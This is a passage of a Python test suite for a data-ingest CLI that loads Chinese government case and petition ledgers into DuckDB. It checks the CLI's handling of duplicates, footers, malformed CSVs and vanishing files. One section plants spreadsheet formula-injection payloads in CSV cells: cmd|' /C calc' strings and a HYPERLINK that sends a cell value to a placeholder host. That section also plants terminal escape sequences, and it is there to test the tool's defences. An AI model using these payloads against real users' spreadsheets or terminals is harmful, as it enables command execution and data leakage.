def formulas_uncached(d: Path) -> Expect:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Sheet1"
    ws.append(CASE_H)
    ws.append(good_case(1))
    row = good_case(2)
    row[4] = "=E2*2"
    ws.append(row)
    row = good_case(3)
    row[1] = "=B2"
    ws.append(row)
    wb.save(d / CASES_FILE)
    return Expect([Msg("单元格是公式而不是值", CASES_FILE, "Sheet1", 3, "罚款金额"),
                   Msg("值「=E2*2」", CASES_FILE, "Sheet1", 3, "罚款金额"),
                   Msg("单元格是公式而不是值", CASES_FILE, "Sheet1", 4, "当事人")], 1, rejected=2)


@case("formula text in a csv cell (=HYPERLINK …)")
def csv_formula_text(d: Path) -> Expect:
    bad = good_petition(2)
    bad[4] = '=HYPERLINK("http://example.invalid","点击查看")'
    write_csv(d / "信访投诉台账.csv", [PET_H, good_petition(1), bad])
    return Expect([Msg("单元格是公式而不是值", "信访投诉台账.csv", row=3, column="反映问题")], 1, rejected=1)


@case("merged cells inside the data (one party over three cases)")
def merged_cells_in_data(d: Path) -> Expect:
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(d / CASES_FILE))
    ws = wb.add_worksheet("Sheet1")
    ws.merge_range(0, 0, 1, len(CASE_H) - 1, "2024年行政处罚案件台账")  # a two-row title: no note
    ws.write_row(2, 0, CASE_H)
    for r in range(3, 6):
        row = good_case(r)
        row[1] = None  # Excel keeps only the top-left value of a merge: the rows below are empty
        ws.write_row(r, 0, row)
    ws.merge_range(3, 1, 5, 1, "甲化工有限公司")
    wb.close()

    def verify(con):
        assert con.execute("select distinct party from enforcement_cases").fetchall() == [("甲化工有限公司",)]

    return Expect([Msg("合并单元格的值已填入所合并的每一行：B4:B6", CASES_FILE, once=True)], 3, verify=verify)


# ---------------------------------------------------------------- duplicates and rows that are not records


@case("identical duplicates across two monthly exports")
def duplicates_identical(d: Path) -> Expect:
    cases_xlsx(d, [good_case(1), good_case(2)], name="行政处罚案件台账（1-6月）.xlsx")
    cases_xlsx(d, [good_case(2), good_case(3)], name="行政处罚案件台账（6-12月）.xlsx")
    # The export of the later period takes precedence: the earlier one's copy of the record is the one skipped.
    return Expect([Msg("1 行与已导入的记录完全相同，已跳过（如第3行，同 行政处罚案件台账（6-12月）.xlsx 第2行）",
                       "行政处罚案件台账（1-6月）.xlsx")], 3, skipped=1)


@case("identical duplicate rows inside one file")
def duplicates_same_file(d: Path) -> Expect:
    cases_xlsx(d, [good_case(1), good_case(2), good_case(1), good_case(1)])
    return Expect([Msg("2 行与已导入的记录完全相同，已跳过（如第4行", CASES_FILE)], 2, skipped=2)


@case("conflicting duplicates (same 案号, different fine)")
def duplicates_conflicting(d: Path) -> Expect:
    cases_xlsx(d, [good_case(1), good_case(2)], name="行政处罚案件台账（1-6月）.xlsx")
    changed = good_case(2)
    changed[4] = 99999
    cases_xlsx(d, [good_case(3), changed], name="行政处罚案件台账（6-12月）.xlsx")
    # The later period wins; the earlier value is reported with its file, row and both values.
    def newer_kept(con) -> None:
        assert con.execute("SELECT fine_yuan FROM enforcement_cases WHERE case_no = '新环罚〔2024〕2号'"
                           ).fetchall() == [(99999,)]

    return Expect([Msg("是同一条记录但内容不同（罚款金额(元)：本行「2000.00」，采用「99999.00」）",
                       "行政处罚案件台账（1-6月）.xlsx", "Sheet1", 3, "案号")], 3, rejected=1, verify=newer_kept)


@case("totals, subtotals, page footers and a repeated header among the rows")
def totals_footers_page_breaks(d: Path) -> Expect:
    rows = [good_case(1), good_case(2), ["小计", None, None, None, 3000], ["第 1 页 共 2 页"], CASE_H,
            good_case(3), [None] * 6, ["合计", None, None, None, 6000], ["制表人：张三", None, "审核人：李四"],
            ["第2页"]]
    cases_xlsx(d, rows)
    return Expect([Msg("合计行 2", None), Msg("表尾行 3", None)], 3, skipped=7)


@case("total and footer rows in a ledger with one required column (certificates)")
def totals_one_required_column(d: Path) -> Expect:
    rows = [["序号", "姓名", "股室", "执法证号", "有效期至"], [1, "张三", "执法大队", "43000001", "2027-06-30"],
            [2, "李四", "执法大队", "43000002", "2027-06-30"], ["合计", "2人"], ["制表人：王五"],
            [None, "合计", None, None, None], [None, "审核人：赵六"]]
    write_xlsx(d / "执法人员持证台账.xlsx", rows)

    def verify(con):
        assert con.execute("select staff_name from certificates order by 1").fetchall() == [("张三",), ("李四",)]

    return Expect([Msg("合计行 2", None), Msg("表尾行 2", None)], 2, skipped=4, verify=verify)


@case("a sheet with only a total row")
def only_totals(d: Path) -> Expect:
    cases_xlsx(d, [["合计", None, None, None, 0]])
    return Expect([Msg("合计行 1", None)], 0, skipped=1)


@case("header only, no data rows (.xlsx)")
def header_only_xlsx(d: Path) -> Expect:
    cases_xlsx(d, [])
    return Expect([Msg("只有表头，没有数据行", CASES_FILE)], 0, problems=False)


@case("title and header only, no data rows (.csv)")
def header_only_csv(d: Path) -> Expect:
    write_csv(d / "信访投诉台账.csv", [["2024年信访投诉台账"], PET_H])
    return Expect([Msg("只有表头，没有数据行", "信访投诉台账.csv")], 0, problems=False)


# ---------------------------------------------------------------- csv structure


@case("csv with a quote that never closes")
def csv_unclosed_quote(d: Path) -> Expect:
    lines = [",".join(PET_H), ",".join(map(str, good_petition(1))),
             'XF2,2024-05-01,张三,13800000000,"反映噪声,县级,', ",".join(map(str, good_petition(3)))]
    (d / "信访投诉台账.csv").write_text("\r\n".join(lines) + "\r\n", encoding="utf-8")
    return Expect([Msg("CSV 第 3 行起无法分列：引号没有闭合", "信访投诉台账.csv")], 0,
                  unreadable=("信访投诉台账.csv",))


@case("csv with stray quotes inside unquoted cells (readable)")
def csv_stray_quotes(d: Path) -> Expect:
    lines = [",".join(PET_H), ",".join(map(str, good_petition(1))),
             'XF2,2024-05-01,张三,13800000000,反映某厂"偷排"问题,县级,']
    (d / "信访投诉台账.csv").write_text("\r\n".join(lines) + "\r\n", encoding="utf-8")

    def verify(con):
        assert con.execute("select summary from petitions where petition_no = 'XF2'").fetchall() == [
            ('反映某厂"偷排"问题',)]

    return Expect([Msg("编码 UTF-8", "信访投诉台账.csv")], 2, verify=verify)


@case("a 300,000-character cell near the top of a csv")
def giant_cell_csv(d: Path) -> Expect:
    row = good_petition(1)
    row[4] = "噪声" * 150_000
    write_csv(d / "信访投诉台账.csv", [PET_H, row, good_petition(2)])

    def verify(con):
        assert con.execute("select max(length(summary)) from petitions").fetchall() == [(300_000,)]

    return Expect([Msg("编码 UTF-8", "信访投诉台账.csv")], 2, verify=verify)


@case("csv with 20,000 columns")
def csv_20000_columns(d: Path) -> Expect:
    extra = [f"备用{i}" for i in range(20_000 - len(PET_H))]
    lines = [",".join(PET_H + extra)]
    filler = ",".join(str(i % 10) for i in range(len(extra)))
    lines += [",".join(map(str, good_petition(i))) + "," + filler for i in range(1, 31)]
    (d / "信访投诉台账.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return Expect([Msg(f"等共 {len(extra)} 列", "信访投诉台账.csv", once=True)], 30)


# ---------------------------------------------------------------- text that would drive a terminal or a spreadsheet

ESCAPED_FILE = "信访投诉台账\x1b[31m红\r.csv"
ESCAPED_LABEL = "信访投诉台账\\x1b[31m红\\x0d.csv"  # as the summary shows it


@case("escape sequences, C1 controls and bidi overrides in cells and in a file name")
def terminal_escapes(d: Path) -> Expect:
    rows = [good_petition(i) for i in range(1, 6)]
    rows[0][4] = "噪声" + OSC52 + "扰民"
    rows[1][4] = PAINT
    rows[2][4] = BIDI + C1
    rows[3][5] = "县级" + CLEAR  # a 级别 outside the agreed values: the note quotes it
    write_csv(d / ESCAPED_FILE, [PET_H, *rows])

    def verify(con):  # the store keeps the raw value; only output is escaped
        got = dict(con.execute("select petition_no, summary from petitions").fetchall())
        assert got["XF2024001"] == "噪声" + OSC52 + "扰民" and got["XF2024003"] == BIDI + C1, got

    return Expect([Msg("有约定之外的取值：县级\\x1b[2J", ESCAPED_LABEL), Msg("编码 UTF-8", ESCAPED_LABEL)], 5,
                  verify=verify)


@case("cells a spreadsheet would run as formulas (+, -, @)")
def formula_cells(d: Path) -> Expect:
    rows = [good_petition(i) for i in range(1, 4)]
    rows[0][4] = '+HYPERLINK("http://example.invalid/?"&E2,"详情")'
    rows[1][4] = "-2+3+cmd|' /C calc'!A0"
    rows[2][4] = "@SUM(1+1)*cmd|' /C calc'!A0"
    write_csv(d / "信访投诉台账.csv", [PET_H, *rows])

    def verify(con):  # stored as written: the guard belongs to the CSV writer, not the store
        got = {r[0] for r in con.execute("select summary from petitions").fetchall()}
        assert got == {r[4] for r in rows}, got

    return Expect([Msg("编码 UTF-8", "信访投诉台账.csv")], 3, verify=verify)


# ---------------------------------------------------------------- files that move under our feet


@contextlib.contextmanager
def _vanish_before_read(folder: Path, name: str) -> Iterator[None]:
    from dashboard import ingest, readers, sources

    def read_file(path: Path):
        if path.name == name and path.parent == folder:
            path.unlink(missing_ok=True)
        return readers.read_file(path)

    def sha256_of(path: Path) -> str:  # ingest reads a file first to know whether it is new
        if path.name == name and path.parent == folder:
            path.unlink(missing_ok=True)
        return real_sha(path)

    real_sha = sources.sha256_of
    with mock.patch.object(ingest, "read_file", read_file), mock.patch.object(sources, "sha256_of", sha256_of):
        yield


@contextlib.contextmanager
def _vanish_mid_xlsx(folder: Path, name: str) -> Iterator[None]:
    import fastexcel

    real = fastexcel.read_excel

    def read_excel(source, *a, **k):
        if Path(source).name == name:
            Path(source).unlink(missing_ok=True)
        return real(source, *a, **k)

    with mock.patch.object(fastexcel, "read_excel", read_excel):
        yield


@case("a file that vanishes between discovery and reading")
def vanishes_before_read(d: Path) -> Expect:
    cases_xlsx(d, [good_case(1)], name="行政处罚案件台账（1-6月）.xlsx")
    write_csv(d / "信访投诉台账.csv", [PET_H, good_petition(1)])
    return Expect([Msg("文件在读取时已不存在", "信访投诉台账.csv")], 1, unreadable=("信访投诉台账.csv",),
                  patch=lambda folder: _vanish_before_read(folder, "信访投诉台账.csv"))


@case("an xlsx that vanishes while it is being opened")
def vanishes_mid_read(d: Path) -> Expect:
    cases_xlsx(d, [good_case(1)])
    write_csv(d / "信访投诉台账.csv", [PET_H, good_petition(1)])
    return Expect([Msg("文件在读取时已不存在", CASES_FILE)], 1, unreadable=(CASES_FILE,),
                  patch=lambda folder: _vanish_mid_xlsx(folder, CASES_FILE))


# ---------------------------------------------------------------- size

BIG_BYTES = 100 * 1024 * 1024


@case("a 100 MB GBK csv (about 900,000 rows, a few bad ones)", big=True)
def file_100mb(d: Path) -> Expect:
    header = "序号,案号,当事人,违法类型,立案日期,决定日期,处理结果,罚款金额,公示日期,全过程记录\r\n"
    parts, size, i = [header.encode("gbk")], 0, 0
    bad_rows = []
    while size < BIG_BYTES:
        chunk = "".join(
            f"{j},新环罚〔2024〕{j}号,某某环保科技有限公司第{j}分公司,大气,2024-{1 + j % 12:02d}-{1 + j % 28:02d},"
            f"2024-{1 + j % 12:02d}-{1 + j % 28:02d},行政处罚,{j % 9999}.00,,是\r\n"
            for j in range(i, i + 50_000))
        parts.append(chunk.encode("gbk"))
        size += len(parts[-1])
        i += 50_000
    # three bad rows at the very end, reported by their line number
    tail = [f"{i},新环罚〔2024〕{i}号,企业,大气,2024-02-30,,行政处罚,1,,是",
            f"{i + 1},新环罚〔2024〕{i + 1}号,企业,大气,2024-02-01,,行政处罚,-1,,是",
            f"{i + 2},新环罚〔2024〕{i + 2}号,企业,大气,2024-02-01,,行政处罚,1,,也许"]
    parts.append(("\r\n".join(tail) + "\r\n").encode("gbk"))
    bad_rows = [i + 2, i + 3, i + 4]  # header is line 1, row j is line j + 2
    (d / "行政处罚案件台账.csv").write_bytes(b"".join(parts))
    name = "行政处罚案件台账.csv"
    return Expect([Msg("日期不存在", name, row=bad_rows[0], column="立案日期"),
                   Msg("不能为负数", name, row=bad_rows[1], column="罚款金额"),
                   Msg("无法识别的是/否值", name, row=bad_rows[2], column="全过程记录"),
                   Msg("编码 GBK", name)], i, rejected=3)


# ---------------------------------------------------------------- running a case


@dataclass
class Result:
    case: Case
    expect: Expect
    report: object | None
    check_output: str
    ingest_output: str
    failures: list[str] = field(default_factory=list)
    seconds: float = 0.0

    @property
    def ok(self) -> bool:
        return not self.failures

    def outcome(self) -> str:
        r = self.report
        if r is None:
            return "no report"
        if r.unreadable:
            return "unreadable"
        return f"{r.loaded} loaded, {r.skipped} skipped, {r.rejected} rejected"

    def message(self) -> str:
        """The line the user reads for the first expected message."""
        for m in self.expect.messages:
            lines = m.lines_in(self.ingest_output)
            if lines:
                return lines[0].strip()
        return "(missing)"


def _invoke(args: list[str]):
    from typer.testing import CliRunner

    from dashboard.cli import app

    return CliRunner().invoke(app, args)


def _crashed(res) -> str | None:
    if "Traceback" in res.output:
        return "a traceback in the output"
    if res.exception is not None and not isinstance(res.exception, SystemExit):
        return f"uncaught {type(res.exception).__name__}: {res.exception}"
    return None


def run_case(c: Case, work: Path) -> Result:
    """Build the case twice (check, then ingest: a case may delete its own files) and run both."""
    import duckdb

    from dashboard import ingest, sources
    from dashboard.ledgers import LEDGERS

    start = time.perf_counter()
    reports: list = []
    real_check, real_ingest = ingest.check_paths, sources.ingest

    def spy_check(*a, **k):
        report = real_check(*a, **k)
        reports.append(report)
        return report

    def spy_ingest(*a, **k):
        try:
            outcome = real_ingest(*a, **k)
        except sources.NothingToLoad as exc:
            reports.append(exc.outcome.batch_report())
            raise
        reports.append(outcome.batch_report())
        return outcome

    def run(cmd: str, src: Path, args: list[str]):
        with contextlib.ExitStack() as stack:
            stack.enter_context(mock.patch.object(ingest, "check_paths", spy_check))
            stack.enter_context(mock.patch.object(sources, "ingest", spy_ingest))
            if expect.patch is not None:
                stack.enter_context(expect.patch(src))
            return _invoke([cmd, str(src), *args])

    failures: list[str] = []
    check_out = ""
    if not c.big:
        src = work / "check"
        src.mkdir(parents=True)
        expect = c.build(src)
        res = run("check", src, [])
        check_out = res.output
        if crash := _crashed(res):
            failures.append(f"dash check: {crash}")
        if raw := raw_controls(check_out):
            failures.append(f"dash check printed terminal control characters raw: {', '.join(raw)}")
        want = 2 if expect.has_problems else 0
        if res.exit_code != want:
            failures.append(f"dash check exit code {res.exit_code}, expected {want}")
    src = work / "in"
    src.mkdir(parents=True)
    expect = c.build(src)
    db = work / "store.duckdb"
    res = run("ingest", src, ["--db", str(db)])
    ingest_out = res.output
    if crash := _crashed(res):
        failures.append(f"dash ingest: {crash}")
    if raw := raw_controls(ingest_out):
        failures.append(f"dash ingest printed terminal control characters raw: {', '.join(raw)}")
    # A store is never written without a single row: nothing to load is exit 1, nothing written.
    want = 0 if expect.loaded else 1
    if res.exit_code != want:
        failures.append(f"dash ingest exit code {res.exit_code}, expected {want}")
    if not expect.loaded and db.exists():
        failures.append("dash ingest wrote a store with no rows")
    report = reports[-1] if reports else None

    for m in expect.messages:
        for name, out in (("check", check_out), ("ingest", ingest_out)):
            if name == "check" and c.big:
                continue
            found = m.lines_in(out)
            if not found:
                failures.append(f"dash {name}: no line with {' … '.join(m.parts())}")
            elif m.once and len(found) != 1:
                failures.append(f"dash {name}: {len(found)} lines with {m.fragment}, expected one")
    if "✓" not in next((ln for ln in ingest_out.splitlines() if ln.startswith("合计：")), ""):
        failures.append("the summary's 合计 line does not balance (no ✓)")

    if report is None:
        failures.append("no report was produced")
    else:
        if not (report.balanced() and report.read == report.loaded + report.skipped + report.rejected):
            failures.append("accounting: read ≠ loaded + skipped + rejected")
        got = (report.loaded, report.skipped, report.rejected)
        want = (expect.loaded, expect.skipped, expect.rejected)
        if got != want:
            failures.append(f"loaded/skipped/rejected {got}, expected {want}")
        unreadable = tuple(sorted(p.file for p in report.unreadable))
        if unreadable != tuple(sorted(expect.unreadable)):
            failures.append(f"unreadable files {unreadable}, expected {tuple(sorted(expect.unreadable))}")

    if db.exists():
        con = duckdb.connect(str(db), read_only=True)
        try:
            stored = sum(con.execute(f"select count(*) from {lg.table}").fetchall()[0][0] for lg in LEDGERS)
            if stored != expect.loaded:
                failures.append(f"{stored} rows in the store, expected {expect.loaded}")
            off = con.execute("select count(*) from _dash_files where rows_read <> loaded + skipped + rejected")
            if off.fetchall()[0][0]:
                failures.append("_dash_files: a sheet whose rows do not add up")
            if expect.verify is not None:
                try:
                    expect.verify(con)
                except AssertionError as exc:
                    failures.append(f"store check failed: {exc}")
        finally:
            con.close()
    elif res.exit_code == 0:
        failures.append("dash ingest wrote no store")
    return Result(c, expect, report, check_out, ingest_out, failures, time.perf_counter() - start)


# ---------------------------------------------------------------- the table


def table(results: list[Result]) -> str:
    """The corpus with the outcome of each case, aligned for a terminal (CJK-aware)."""
    from dashboard.output import cell_width, pad

    head = ["#", "case", "title", "expected", "outcome", "pass", "s", "message the user reads"]
    rows = []
    for n, r in enumerate(results, start=1):
        rows.append([str(n), r.case.name, r.case.title, r.expect.label(), r.outcome(), "ok" if r.ok else "FAIL",
                     f"{r.seconds:.1f}", r.message()])
    widths = [max(cell_width(x) for x in col) for col in zip(head, *rows)]
    widths[-1] = 0  # the message runs to the end of the line
    lines = ["  ".join(pad(c, w) for c, w in zip(head, widths)).rstrip(),
             "  ".join("─" * (w or 8) for w in widths)]
    lines += ["  ".join(pad(c, w) for c, w in zip(row, widths)).rstrip() for row in rows]
    bad = [r for r in results if not r.ok]
    lines.append(f"{len(results)} cases, {len(results) - len(bad)} ok, {len(bad)} failing")
    for r in bad:
        lines.append(f"  {r.case.name}: " + "; ".join(r.failures))
    return "\n".join(lines) + "\n"
